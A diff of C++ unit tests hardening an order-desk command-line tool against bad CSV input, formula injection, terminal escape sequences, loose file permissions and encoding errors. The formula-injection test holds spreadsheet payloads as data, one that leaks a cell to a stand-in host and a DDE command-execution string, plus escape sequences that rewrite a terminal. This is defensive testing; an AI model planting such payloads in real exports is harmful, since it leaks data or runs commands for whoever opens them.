@@ -18,6 +18,8 @@
 
 #include <gtest/gtest.h>
 
+#include <sys/stat.h>
+
 #include <algorithm>
 #include <memory>
 #include <vector>
@@ -53,6 +55,17 @@ QByteArray contentOf(const QString& path)
 {
     QFile file(path);
     return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+}
+
+// "600" for rw-------; "missing" when there is no such file.
+std::string modeOf(const QString& path)
+{
+    struct stat st
+    {
+    };
+    if (::stat(QFile::encodeName(path).constData(), &st) != 0)
+        return "missing";
+    return QString::number(st.st_mode & 07777, 8).toStdString();
 }
 
 // A connection of the test's own to a database file, as another program would have.
@@ -290,6 +303,95 @@ TEST(CliHardening, RestoreIsForAdministratorsAndRefusesAlteredUsersAndAsksAboutA
     EXPECT_EQ(office.anonymous({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
 }
 
+// 4. A comma is a thousands separator only where it separates thousands.
+TEST(CliHardening, ADecimalCommaIsAnErrorWithItsLineNotAThousandsSeparator)
+{
+    Office office;
+    addCatalog(office);
+    const CliRun customers = office.import(
+        QStringLiteral("customers"), QStringLiteral("comma.csv"),
+        "code,name,credit_limit\nC101,甲公司,\"12,5\"\nC102,乙公司,\"1,2,3\"\nC103,丙公司,\"1,234.50\"\n");
+    EXPECT_EQ(customers.exitCode, 1);
+    EXPECT_TRUE(customers.err.contains(office.file(QStringLiteral("comma.csv:2:"))))
+        << customers.err.toStdString();
+    EXPECT_TRUE(customers.err.contains(office.file(QStringLiteral("comma.csv:3:"))))
+        << customers.err.toStdString();
+    EXPECT_FALSE(customers.err.contains(office.file(QStringLiteral("comma.csv:4:"))))
+        << customers.err.toStdString();
+
+    const CliRun orders =
+        office.import(QStringLiteral("orders"), QStringLiteral("qty.csv"),
+                      kOrderHeader + ",C001,2026-06-01,2026-07-01,draft,1,VLV-50,,\"2,5\",,\n");
+    EXPECT_EQ(orders.exitCode, 1);
+    EXPECT_TRUE(orders.err.contains(office.file(QStringLiteral("qty.csv:2:")))) << orders.err.toStdString();
+    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM orders")), 0);
+}
+
+// 5. Names that a spreadsheet would run as formulas are exported harmless and come back as they were.
+TEST(CliHardening, FormulasInExportedNamesAreDefusedAndRoundTrip)
+{
+    Office office;
+    const QStringList names{QStringLiteral("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")"),
+                            QStringLiteral("=1+1"),
+                            QStringLiteral("+1-555"),
+                            QStringLiteral("@SUM(1)"),
+                            QStringLiteral("=cmd|' /C calc'!A0"),
+                            QStringLiteral("-2+3")};
+    QByteArray csv = "code,name,phone\n";
+    for (int i = 0; i < names.size(); ++i) {
+        QString quoted = names[i];
+        quoted.replace(u'"', QStringLiteral("\"\""));
+        csv += QStringLiteral("F%1,\"%2\",+86 21 5555 0%1\n").arg(i).arg(quoted).toUtf8();
+    }
+    ASSERT_EQ(office.import(QStringLiteral("customers"), QStringLiteral("formulas.csv"), csv).exitCode, 0);
+    const QString exported = office.file(QStringLiteral("exported.csv"));
+    ASSERT_EQ(
+        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"), exported})
+            .exitCode,
+        0);
+    const QString text = QString::fromUtf8(contentOf(exported));
+    for (const QString& line : text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts).mid(1)) {
+        const QStringList cells = line.split(u',');
+        for (const QString& cell : cells.mid(1, 1)) {
+            const QString value = cell.startsWith(u'"') ? cell.mid(1) : cell;
+            EXPECT_FALSE(value.startsWith(u'=') || value.startsWith(u'+') || value.startsWith(u'-') ||
+                         value.startsWith(u'@'))
+                << line.toStdString();
+        }
+    }
+
+    Office copy(QStringLiteral("copy.orderdesk"));
+    ASSERT_EQ(copy.as(QStringLiteral("li"), {QStringLiteral("import"), QStringLiteral("customers"), exported})
+                  .exitCode,
+              0);
+    RawDatabase raw(copy.db);
+    for (int i = 0; i < names.size(); ++i)
+        EXPECT_EQ(
+            raw.scalar(QStringLiteral("SELECT name FROM customers WHERE code = 'F%1'").arg(i)).toString(),
+            names[i]);
+    EXPECT_EQ(raw.scalar(QStringLiteral("SELECT phone FROM customers WHERE code = 'F0'")).toString(),
+              QStringLiteral("+86 21 5555 00"));
+}
+
+// 6. The desktop app's old data folder: a database found there is moved to the one folder both use.
+TEST(CliHardening, ADatabaseInTheOldDesktopFolderIsMovedToTheSharedOne)
+{
+    Office office;
+    const QString dataHome = office.cli.dir() + QStringLiteral("/data");
+    const QString oldPlace = dataHome + QStringLiteral("/OrderDesk/OrderDesk/orderdesk.sqlite");
+    const QString newPlace = dataHome + QStringLiteral("/OrderDesk/orderdesk.sqlite");
+    ASSERT_TRUE(QDir().mkpath(QFileInfo(oldPlace).absolutePath()));
+    ASSERT_TRUE(QFile::rename(office.db, oldPlace));
+    ASSERT_FALSE(QFileInfo::exists(newPlace));
+
+    const CliRun summary = office.cli.run({QStringLiteral("summary")});
+    EXPECT_EQ(summary.exitCode, 0) << summary.err.toStdString();
+    EXPECT_TRUE(summary.err.contains(QDir::toNativeSeparators(newPlace))) << summary.err.toStdString();
+    EXPECT_TRUE(QFileInfo::exists(newPlace));
+    EXPECT_FALSE(QFileInfo::exists(oldPlace));
+    EXPECT_EQ(office.cli.run({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
+}
+
 // 7 and 8. While another program holds the write lock (a long import), a backup is whole and
 // its audit entry waits; signing in works, says why changes wait, and its record is not lost.
 TEST(CliHardening, BackupAndSignInWhileTheWriteLockIsHeldAreWholeAndAuditedLater)
@@ -330,6 +432,69 @@ TEST(CliHardening, BackupAndSignInWhileTheWriteLockIsHeldAreWholeAndAuditedLater
         count(office.db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'user.sign_in'")),
         signInsBefore + 2);
     EXPECT_EQ(office.anonymous({QStringLiteral("audit"), QStringLiteral("verify")}).exitCode, 0);
+}
+
+// 9. Order numbers have a format, a length and are unique whatever their case; texts have caps.
+TEST(CliHardening, OrderImportRefusesMalformedOrDuplicateNumbersAndHugeTexts)
+{
+    Office office;
+    addCatalog(office);
+    ASSERT_EQ(office
+                  .import(QStringLiteral("orders"), QStringLiteral("first.csv"),
+                          kOrderHeader + "SO-2026-000466,C001,2026-06-01,2026-07-01,draft,1,VLV-50,,1,,\n")
+                  .exitCode,
+              0);
+    const QByteArray line = ",C001,2026-06-01,2026-07-01,draft,1,VLV-50,,1,,\n";
+    QByteArray csv = kOrderHeader;
+    csv += QByteArray(1 << 20, 'A') + line; // 2
+    csv += "=1+1" + line;                   // 3
+    csv += "SO 2026 1" + line;              // 4
+    csv += "so-2026-000466" + line;         // 5
+    csv += "SO-2026-000900,C001,2026-06-01,2026-07-01,draft,1,VLV-50," + QByteArray(1 << 20, 'x') +
+           ",1,,\n"; // 6
+    const CliRun run = office.import(QStringLiteral("orders"), QStringLiteral("bad.csv"), csv);
+    EXPECT_EQ(run.exitCode, 1);
+    for (int l = 2; l <= 6; ++l)
+        EXPECT_TRUE(run.err.contains(office.file(QStringLiteral("bad.csv:%1:").arg(l))))
+            << "line " << l << ": " << run.err.left(2000).toStdString();
+    EXPECT_LT(run.err.size(), 20'000) << "messages quote a cut-down value, not a megabyte";
+    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM orders")), 1);
+}
+
+// 10. Terminal control sequences are refused on the way in and never printed raw on the way out.
+TEST(CliHardening, ControlCharactersAreRefusedInImportsAndNeverReachTheTerminal)
+{
+    Office office;
+    addCatalog(office);
+    const CliRun refused = office.import(QStringLiteral("customers"), QStringLiteral("esc.csv"),
+                                         "code,name\nC201,\"Evil\x1b]0;pwned\x07\x1b[2J Ltd\"\n");
+    EXPECT_EQ(refused.exitCode, 1);
+    EXPECT_TRUE(refused.err.contains(office.file(QStringLiteral("esc.csv:2:")))) << refused.err.toStdString();
+    EXPECT_FALSE(refused.err.contains(QChar(0x1b)));
+
+    // Text that reached the database before (or behind the app's back) is shown defused.
+    ASSERT_EQ(
+        office
+            .import(QStringLiteral("orders"), QStringLiteral("o.csv"),
+                    kOrderHeader + "SO-2026-000001,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n")
+            .exitCode,
+        0);
+    {
+        RawDatabase raw(office.db);
+        raw.exec(QStringLiteral("UPDATE orders SET customer_name = 'Evil' || char(27) || '[2J' || char(7)"));
+        raw.exec(
+            QStringLiteral("UPDATE order_lines SET description = 'x' || char(27) || ']0;owned' || char(7)"));
+    }
+    const CliRun list = office.as(QStringLiteral("li"), {QStringLiteral("orders")});
+    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
+    EXPECT_TRUE(list.out.contains(QLatin1String("Evil"))) << list.out.toStdString();
+    const CliRun show =
+        office.as(QStringLiteral("li"), {QStringLiteral("show"), QStringLiteral("SO-2026-000001")});
+    EXPECT_EQ(show.exitCode, 0) << show.err.toStdString();
+    for (const CliRun& run : {list, show}) {
+        EXPECT_FALSE(run.out.contains(QChar(0x1b))) << run.out.toStdString();
+        EXPECT_FALSE(run.out.contains(QChar(0x07))) << run.out.toStdString();
+    }
 }
 
 // 11. An unknown name, a throttled name and a disabled account get the same answer in about the
@@ -375,4 +540,134 @@ TEST(CliHardening, SignInFailuresAllGetTheSameAnswerInSimilarTime)
     EXPECT_EQ(unknownThrottled.left(unknownThrottled.indexOf(u'.')), throttled.left(throttled.indexOf(u'.')));
     for (qint64 ms : {unknownMs, disabledMs, throttledMs, unknownThrottledMs})
         EXPECT_GT(ms, wrongMs / 2) << "wrong password " << wrongMs << " ms";
+}
+
+// 12. A dry run needs the import permission; `show` answers a colleague's order like a missing one.
+TEST(CliHardening, DryRunNeedsTheImportPermissionAndShowDoesNotTellColleaguesOrdersExist)
+{
+    Office office;
+    addCatalog(office);
+    ASSERT_EQ(
+        office
+            .import(QStringLiteral("orders"), QStringLiteral("o.csv"),
+                    kOrderHeader + "SO-2026-000010,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n")
+            .exitCode,
+        0);
+    {
+        RawDatabase raw(office.db);
+        raw.exec(
+            QStringLiteral("UPDATE orders SET salesperson_id = (SELECT id FROM users WHERE name = 'chen')"));
+    }
+    const QString probe = office.file(QStringLiteral("probe.csv"));
+    writeFile(probe, kOrderHeader + "SO-2026-000010,C001,2026-06-01,2026-07-01,draft,1,VLV-50,DN50,1,,\n");
+    const CliRun dryRun =
+        office.as(QStringLiteral("wang"),
+                  {QStringLiteral("import"), QStringLiteral("orders"), probe, QStringLiteral("--dry-run")});
+    EXPECT_EQ(dryRun.exitCode, 1);
+    EXPECT_TRUE(dryRun.err.contains(QLatin1String("may not import"))) << dryRun.err.toStdString();
+    EXPECT_FALSE(dryRun.err.contains(QLatin1String("already exists"))) << dryRun.err.toStdString();
+
+    const CliRun colleagues =
+        office.as(QStringLiteral("wang"), {QStringLiteral("show"), QStringLiteral("SO-2026-000010")});
+    const CliRun missing =
+        office.as(QStringLiteral("wang"), {QStringLiteral("show"), QStringLiteral("SO-2026-000011")});
+    EXPECT_EQ(colleagues.exitCode, missing.exitCode);
+    QString colleaguesText = colleagues.err;
+    EXPECT_EQ(colleaguesText.replace(QLatin1String("000010"), QLatin1String("000011")), missing.err);
+    EXPECT_EQ(office.as(QStringLiteral("chen"), {QStringLiteral("show"), QStringLiteral("SO-2026-000010")})
+                  .exitCode,
+              0);
+}
+
+// 13. The log, its folder and exported files are for their owner only, like the database.
+TEST(CliHardening, LogFileItsFolderAndExportsAreOwnerOnly)
+{
+    Office office;
+    addCatalog(office);
+    const QString exported = office.file(QStringLiteral("customers.csv"));
+    ASSERT_EQ(
+        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"), exported})
+            .exitCode,
+        0);
+    EXPECT_EQ(modeOf(exported), "600");
+    const QString dataDir = office.cli.dir() + QStringLiteral("/data/OrderDesk");
+    EXPECT_EQ(modeOf(dataDir), "700");
+    EXPECT_EQ(modeOf(dataDir + QStringLiteral("/orderdesk.log")), "600");
+    EXPECT_EQ(modeOf(office.db + QStringLiteral("-access")), "600");
+}
+
+// 14. Unusable files: a read-only database still reads; anything else is a sentence, exit 1, and
+//     nothing is created by a read.
+TEST(CliHardening, UnusableDatabaseFilesGetAClearAnswerAndReadingCreatesNothing)
+{
+    CliRunner cli;
+    const QString empty = cli.database(QStringLiteral("empty.orderdesk"));
+    writeFile(empty, {});
+    const CliRun onEmpty = cli.run(args(empty, {}, {QStringLiteral("summary")}));
+    EXPECT_EQ(onEmpty.exitCode, 1);
+    EXPECT_EQ(QFileInfo(empty).size(), 0) << "a read created the schema";
+    EXPECT_FALSE(onEmpty.err.contains(QLatin1String("removeDatabase"))) << onEmpty.err.toStdString();
+
+    const QString text = cli.database(QStringLiteral("notes.txt"));
+    writeFile(text, QByteArray("these are my notes, not a database\n").repeated(200));
+    for (const QStringList& command :
+         {QStringList{QStringLiteral("summary")}, QStringList{QStringLiteral("check")},
+          QStringList{QStringLiteral("audit"), QStringLiteral("verify")}}) {
+        const CliRun run = cli.run(args(text, {}, command));
+        EXPECT_EQ(run.exitCode, 1) << command.join(u' ').toStdString();
+        EXPECT_TRUE(run.err.contains(QLatin1String("is not an OrderDesk database"))) << run.err.toStdString();
+        EXPECT_FALSE(run.err.contains(QLatin1String("removeDatabase"))) << run.err.toStdString();
+        EXPECT_FALSE(run.err.contains(QLatin1String("file is not a database"))) << run.err.toStdString();
+    }
+
+    Office office;
+    addCatalog(office);
+    // Read-only even for root: the file is made immutable.
+    const QByteArray file = QFile::encodeName(office.db);
+    if (QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("+i"), office.db}) != 0)
+        GTEST_SKIP() << "chattr +i is not available here; cannot make the file read-only for every user";
+    auto unlock = qScopeGuard([&] {
+        QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("-i"), office.db});
+    });
+    for (const QStringList& command :
+         {QStringList{QStringLiteral("summary")}, QStringList{QStringLiteral("check")},
+          QStringList{QStringLiteral("audit"), QStringLiteral("verify")}}) {
+        const CliRun run = office.anonymous(command);
+        EXPECT_EQ(run.exitCode, 0) << command.join(u' ').toStdString() << ": " << run.err.toStdString();
+    }
+    const CliRun list =
+        office.as(QStringLiteral("li"), {QStringLiteral("export"), QStringLiteral("customers"),
+                                         office.file(QStringLiteral("ro.csv"))});
+    EXPECT_EQ(list.exitCode, 0) << list.err.toStdString();
+    const CliRun write =
+        office.import(QStringLiteral("customers"), QStringLiteral("more.csv"), "code,name\nC900,只读公司\n");
+    EXPECT_EQ(write.exitCode, 1);
+    EXPECT_TRUE(write.err.contains(QLatin1String("read-only"))) << write.err.toStdString();
+    EXPECT_FALSE(write.err.contains(QLatin1String("attempt to write"))) << write.err.toStdString();
+}
+
+// 15. The right line and the right encoding, and no guessing between UTF-8 and GB18030.
+TEST(CliHardening, EncodingProblemsNameTheirLineAndEncoding)
+{
+    Office office;
+    const CliRun badByte = office.import(QStringLiteral("customers"), QStringLiteral("bad-byte.csv"),
+                                         "code,name\nC1,Alpha\nC2,Beta\nC3,Gamma\nC4,Del\xff"
+                                         "ta\n");
+    EXPECT_EQ(badByte.exitCode, 1);
+    EXPECT_TRUE(badByte.err.contains(office.file(QStringLiteral("bad-byte.csv:5:"))))
+        << badByte.err.toStdString();
+
+    QStringEncoder utf32(QStringEncoder::Utf32LE, QStringEncoder::Flag::WriteBom);
+    const QByteArray wide = utf32.encode(QStringLiteral("code,name\nC1,上海申通\n"));
+    const CliRun utf32Run = office.import(QStringLiteral("customers"), QStringLiteral("wide.csv"), wide);
+    EXPECT_EQ(utf32Run.exitCode, 1);
+    EXPECT_TRUE(utf32Run.err.contains(QLatin1String("UTF-32"))) << utf32Run.err.toStdString();
+
+    const CliRun overlong = office.import(QStringLiteral("customers"), QStringLiteral("overlong.csv"),
+                                          "code,name\nC1,上海申通\nC2,..\xc0\xaf..\n");
+    EXPECT_EQ(overlong.exitCode, 1);
+    EXPECT_TRUE(overlong.err.contains(office.file(QStringLiteral("overlong.csv:3:"))))
+        << overlong.err.toStdString();
+    EXPECT_TRUE(overlong.err.contains(QLatin1String("UTF-8"))) << overlong.err.toStdString();
+    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM customers")), 0);
 }
